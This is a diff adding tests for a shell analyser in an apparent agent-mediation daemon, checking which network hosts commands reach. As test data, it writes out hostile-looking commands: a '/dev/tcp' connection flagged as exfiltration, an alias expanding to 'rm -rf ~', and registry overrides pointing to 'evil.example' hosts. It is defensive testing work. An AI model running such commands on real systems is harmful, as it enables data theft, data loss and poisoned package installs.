@@ -1,6 +1,9 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { analyseShell } from '../../daemon/src/mediation/shell/analyse.js';
+import { parseRemote } from '../../daemon/src/mediation/shell/hosts.js';
+import { deriveEffects } from '../../daemon/src/mediation/effects.js';
+import type { Action } from '../../daemon/src/protocol/index.js';
 import { createPackJudge } from '../helpers/pack.js';
 
 const HOME = '/home/dev';
@@ -353,4 +356,96 @@ test('alias NAME=VALUE is not understood: the agent shell expands it on a later 
   assert.match(analyse('alias ls="rm -rf ~"\nls').unknown.join('\n'), /alias ls=rm -rf ~/);
   assert.deepEqual(analyse('alias').unknown, []);
   assert.deepEqual(analyse('alias ll').unknown, []);
+});
+
+test('the network is never used without a host: the one named, the default servers, or `?` for one known only at run time', () => {
+  const hosts = (command: string) => analyse(command).hosts;
+  assert.deepEqual(hosts('curl -s "$U"'), ['?']);
+  assert.deepEqual(hosts('wget -q "$(cat url.txt)"'), ['?']);
+  assert.deepEqual(hosts('cat < /dev/tcp/$H/80'), ['?']);
+  assert.ok(analyse('exec 3<>/dev/tcp/$H/443').risks.includes('exfiltration'));
+  assert.deepEqual(hosts('https_proxy=$P curl https://x.example'), ['?', 'x.example']);
+  assert.deepEqual(hosts('npm publish'), ['registry.npmjs.org', '?']);
+  assert.deepEqual(hosts('npm publish --registry https://npm.example.com'), ['npm.example.com']);
+  assert.deepEqual(hosts('cargo publish'), ['crates.io', 'index.crates.io', 'static.crates.io', '?']);
+  assert.deepEqual(hosts('twine upload dist/*'), ['upload.pypi.org', '?']);
+  assert.deepEqual(hosts('docker push ghcr.io/org/app:1'), ['ghcr.io']);
+  assert.deepEqual(hosts('git push'), ['?remote:origin']);
+  assert.deepEqual(hosts('git push https://github.com/org/repo.git main'), ['github.com']);
+  // A known host and one only known at run time: both.
+  assert.deepEqual(hosts('curl https://a.example; curl "$U"'), ['a.example', '?']);
+  for (const command of [
+    'git pull',
+    'git fetch --all',
+    'git ls-remote origin',
+    'git submodule update --init',
+    'git clone git@github.com:org/repo.git',
+    'pip install requests',
+    'yarn add left-pad',
+    'pnpm install',
+    'go mod download',
+    'gem install rails',
+    'docker pull node:20',
+    'podman login quay.io',
+    'gh pr create --fill',
+    'kubectl get pods',
+    'aws s3 cp f s3://bucket/',
+    'ssh build.example uptime',
+    'rsync -a dist/ "$DEST"',
+    "python3 -c 'import urllib.request,sys; urllib.request.urlopen(sys.argv[1])' x",
+  ]) {
+    const e = analyse(command);
+    assert.ok(
+      e.network && e.hosts.length > 0,
+      `${command}: network ${e.network}, hosts ${e.hosts.join(', ')}`,
+    );
+  }
+});
+
+test('a package run from the project itself fetches nothing: no network, no hosts', () => {
+  const action = {
+    tool: 'shell',
+    operation: 'exec',
+    parameters: { command: 'npx tsc --noEmit', cwd: WS },
+    context: { workspace: WS },
+  } as Action;
+  const fs = { realpath: (p: string) => p, exists: (p: string) => p === `${WS}/node_modules/.bin/tsc` };
+  const installed = deriveEffects(action, { home: HOME, fs });
+  assert.equal(installed.network, false);
+  assert.deepEqual(installed.hosts, []);
+  const fetched = deriveEffects(action, { home: HOME, fs: { ...fs, exists: () => false } });
+  assert.deepEqual(fetched.hosts, ['registry.npmjs.org', '?']);
+});
+
+test('one reading of remote specs: URL, scp-like, rsync daemon and local forms', () => {
+  const read = (text: string) => {
+    const r = parseRemote(text);
+    return r === undefined ? undefined : r.kind === 'local' ? `local ${r.path}` : `${r.kind} ${r.host}`;
+  };
+  assert.equal(read('scp://host.example/tmp/'), 'url host.example');
+  assert.equal(read('ssh://user@Host.Example:2222/path'), 'url host.example');
+  assert.equal(read('git+ssh://git@github.com/o/r'), 'url github.com');
+  assert.equal(read('user@host:path'), 'scp host');
+  assert.equal(read('git@github.com:org/repo.git'), 'scp github.com');
+  assert.equal(read('user@[2001:db8::1]:/p'), 'scp [2001:db8::1]');
+  assert.equal(read('mirror.example::module'), 'scp mirror.example');
+  assert.equal(read('file:///srv/x.git'), 'local /srv/x.git');
+  assert.equal(read('./repo:with-colon'), 'local ./repo:with-colon');
+  assert.equal(read('/abs/x:y'), 'local /abs/x:y');
+  assert.equal(read('repo'), 'local repo');
+  assert.equal(read('https://exa mple/'), undefined);
+  const ssh = parseRemote('ssh://deploy@build.example:2222/srv');
+  assert.ok(ssh?.kind === 'url' && ssh.port === 2222 && ssh.user === 'deploy' && ssh.scheme === 'ssh');
+});
+
+test('a registry set in the environment is where the package manager goes', () => {
+  assert.ok(
+    analyse('npm_config_registry=https://npm.evil.example npm install').hosts.includes('npm.evil.example'),
+  );
+  assert.ok(
+    analyse('PIP_INDEX_URL=https://pypi.evil.example/simple pip install x').hosts.includes(
+      'pypi.evil.example',
+    ),
+  );
+  assert.ok(analyse('export UV_INDEX_URL="$I"; uv pip install y').hosts.includes('?'));
 });
